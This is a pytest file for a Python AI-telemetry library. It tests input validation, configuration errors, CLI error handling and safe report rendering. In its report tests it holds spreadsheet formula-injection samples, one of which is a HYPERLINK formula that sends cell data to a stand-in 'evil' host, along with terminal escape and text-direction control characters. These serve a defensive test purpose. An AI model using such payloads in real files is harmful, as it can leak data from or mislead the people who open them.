"""Bad input is a typed error with nothing sent; report outputs are safe to open."""

from __future__ import annotations

import csv
import io
import math
import os
from datetime import datetime, timedelta, timezone

import pytest

from csctracker_ai_core import ConfigurationError, IaProcessor, InvalidInputError
from csctracker_ai_core.cli import main, render_csv, render_table
from csctracker_ai_core.paths import embedded_clickhouse_path
from csctracker_ai_core.reports import safe_text
from csctracker_ai_core.reports.html_report import build_report_data
from csctracker_ai_core.reports.periods import period_bounds
from csctracker_ai_core.validation import (
    METADATA_MAX_ENTRIES,
    METADATA_MAX_KEY_CHARS,
    METADATA_MAX_TOTAL_CHARS,
    METADATA_MAX_VALUE_CHARS,
)

from test_reports_support import call_event, chdb_client, insert_events

KEY = "AQ.hostile-input-test-key-0000000000"


@pytest.fixture
def emu(make_gemini_emulator):
    emu = make_gemini_emulator()
    emu.add_key(KEY, tier="free")
    return emu


@pytest.fixture
def ia(emu):
    with IaProcessor(google_free_keys=[KEY], base_url=emu.base_url, telemetry="off") as p:
        yield p


# ----------------------------------------------------------------------------- call input


@pytest.mark.parametrize("field", ["prompt", "input_text"])
def test_a_lone_surrogate_in_sent_text_is_refused_before_sending(ia, emu, field):
    with pytest.raises(InvalidInputError, match="lone surrogate") as info:
        ia.analisar_com_gemini(**{field: "nota\udc80fiscal"}, task="t")
    assert "position 4" in str(info.value)
    assert emu.total_requests == 0


@pytest.mark.parametrize(
    "metadata,what",
    [
        ({f"k{i}": "v" for i in range(METADATA_MAX_ENTRIES + 1)}, "entries"),
        ({"k" * (METADATA_MAX_KEY_CHARS + 1): "v"}, "too long"),
        ({"k": "v" * (METADATA_MAX_VALUE_CHARS + 1)}, "too long"),
        (
            {
                f"k{i}": "v" * (METADATA_MAX_VALUE_CHARS - 10)
                for i in range(METADATA_MAX_TOTAL_CHARS // METADATA_MAX_VALUE_CHARS + 1)
            },
            "in all",
        ),
    ],
)
def test_metadata_is_capped(ia, emu, metadata, what):
    with pytest.raises(InvalidInputError, match=what):
        ia.analisar_com_gemini(input_text="x", metadata=metadata)
    assert emu.total_requests == 0


def test_metadata_at_the_caps_is_accepted(ia, emu):
    meta = {f"k{i}": "v" * 200 for i in range(METADATA_MAX_ENTRIES)}  # 64 x ~203 < 16384
    ia.analisar_com_gemini(input_text="x", metadata=meta)
    assert emu.total_requests == 1


# ----------------------------------------------------------------------------- settings


@pytest.mark.parametrize(
    "kwargs,name",
    [
        ({"request_timeout_s": "30"}, "request_timeout_s"),
        ({"request_timeout_s": math.nan}, "request_timeout_s"),
        ({"request_timeout_s": math.inf}, "request_timeout_s"),
        ({"request_timeout_s": 0.0004}, "request_timeout_s"),  # the SDK would read 0 ms: no timeout
        ({"request_timeout_s": 0}, "request_timeout_s"),
        ({"request_timeout_s": True}, "request_timeout_s"),
        ({"request_timeout_s": 1e300}, "request_timeout_s"),
        ({"max_retries": "3"}, "max_retries"),
        ({"max_retries": -1}, "max_retries"),
        ({"max_retries": 1.5}, "max_retries"),
        ({"max_retries": True}, "max_retries"),
        ({"max_wait_s": "abc"}, "max_wait_s"),
        ({"max_wait_s": math.nan}, "max_wait_s"),
        ({"max_wait_s": math.inf}, "max_wait_s"),
        ({"max_wait_s": -1}, "max_wait_s"),
    ],
)
def test_bad_settings_are_configuration_errors(kwargs, name):
    with pytest.raises(ConfigurationError, match=name):
        IaProcessor(google_free_keys=[KEY], telemetry="off", **kwargs)


@pytest.mark.parametrize(
    "var,value",
    [
        ("CSCTRACKER_AI_TIMEOUT_S", "nan"),
        ("CSCTRACKER_AI_TIMEOUT_S", "inf"),
        ("CSCTRACKER_AI_TIMEOUT_S", "0.0001"),
        ("CSCTRACKER_AI_MAX_RETRIES", "2.5"),
        ("CSCTRACKER_AI_MAX_WAIT_S", "-inf"),
    ],
)
def test_bad_settings_from_the_environment_too(var, value, monkeypatch):
    monkeypatch.setenv(var, value)
    with pytest.raises(ConfigurationError):
        IaProcessor(google_free_keys=[KEY], telemetry="off")


def test_the_smallest_timeout_reaches_the_sdk_as_one_millisecond(emu):
    with IaProcessor(
        google_free_keys=[KEY], base_url=emu.base_url, telemetry="off", request_timeout_s=0.001, max_retries=3.0
    ) as p:
        assert p._clients._http_options().timeout == 1
        assert p._max_retries == 3


# ----------------------------------------------------------------------------- CLI


def _run(argv):
    out, err = io.StringIO(), io.StringIO()
    code = main(argv, stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture
def data_dir(tmp_path, monkeypatch):
    monkeypatch.setenv("CSCTRACKER_AI_DATA_DIR", str(tmp_path / "data"))
    return tmp_path / "data"


def test_cli_period_at_the_ends_of_the_calendar_is_everything(data_dir):
    code, out, err = _run(["report", "--period", "0001-01-01|9999-12-31"])
    assert code == 0, err
    assert "Traceback" not in err and "no calls" in out
    whole, everything = period_bounds("0001-01-01|9999-12-31"), period_bounds("max")
    assert (whole.start, whole.end) == (everything.start, everything.end)


def test_cli_unwritable_html_path_is_one_line_exit_2(data_dir, tmp_path):
    target = tmp_path / "not-a-dir"
    target.write_text("a file, not a folder")
    code, _, err = _run(["report", "--period", "24h", "--html", str(target / "r.html")])
    assert code == 2
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert "--html" in err and "cannot write" in err


def test_cli_batch_file_not_utf8_is_one_line_exit_2(data_dir, tmp_path):
    batch = tmp_path / "in.jsonl"
    batch.write_bytes(b'{"input_text": "ok"}\n{"input_text": "ol\xe1"}\n')
    code, _, err = _run(["batch", str(batch), "--out", str(tmp_path / "out.jsonl"), "--free-keys", KEY])
    assert code == 2
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert "line 2" in err and "0xe1" in err and "UTF-8" in err


# ----------------------------------------------------------------------------- report outputs


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(hostile):
    text = render_csv([{"task": hostile, "custo": -1.5, "n": 3}])
    row = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert row[0] == "'" + hostile
    assert row[1] == "-1.5" and row[2] == "3"  # numbers stay numbers


def test_csv_report_of_a_hostile_task_end_to_end(data_dir):
    now = datetime.now(timezone.utc) - timedelta(minutes=30)
    with chdb_client(embedded_clickhouse_path(os.environ)) as client:
        insert_events(
            client,
            [
                call_event(
                    now, '=HYPERLINK("http://evil/?"&A1,"ver")', "gemini-2.5-flash", "paid", 100, 10, event_id="csv1"
                )
            ],
        )
    code, out, err = _run(["report", "--period", "24h", "--group", "group", "--format", "csv"])
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["task"] for r in rows] == ['\'=HYPERLINK("http://evil/?"&A1,"ver")']


def test_text_tables_escape_control_characters():
    table = render_table([{"task": "a\x1b[2Jb\rc\u202ed", "n": 1}], [("task", "tarefa"), ("n", "n")])
    assert "\x1b" not in table and "\r" not in table and "\u202e" not in table
    assert "a\\x1b[2Jb\\x0dc\\u202ed" in table


class _FakeTelemetry:
    def __init__(self, task):
        self.task = task

    def period(self, name):
        return period_bounds(name)

    def get_telemetry_data(self, group, period):
        return [{"task": self.task, "total_events": 1}]

    def timeseries(self, period, bucket, by):
        return [{"bucket": "2026-11-25", "series": self.task if by == "task" else "m", "calls": 1}]

    def __getattr__(self, name):
        # Other report sections (models, keys, budgets, waste...) are empty here.
        return lambda *args, **kwargs: []


def test_html_report_cuts_long_task_names():
    name = "t" * 5000
    data = build_report_data(_FakeTelemetry(name), "24h")
    assert data["summary"][0]["task"] == "t" * (safe_text.LABEL_MAX_CHARS - 1) + "…"
    assert data["by_task"][0]["series"] == data["summary"][0]["task"]
    assert data["by_model"][0]["series"] == "m"
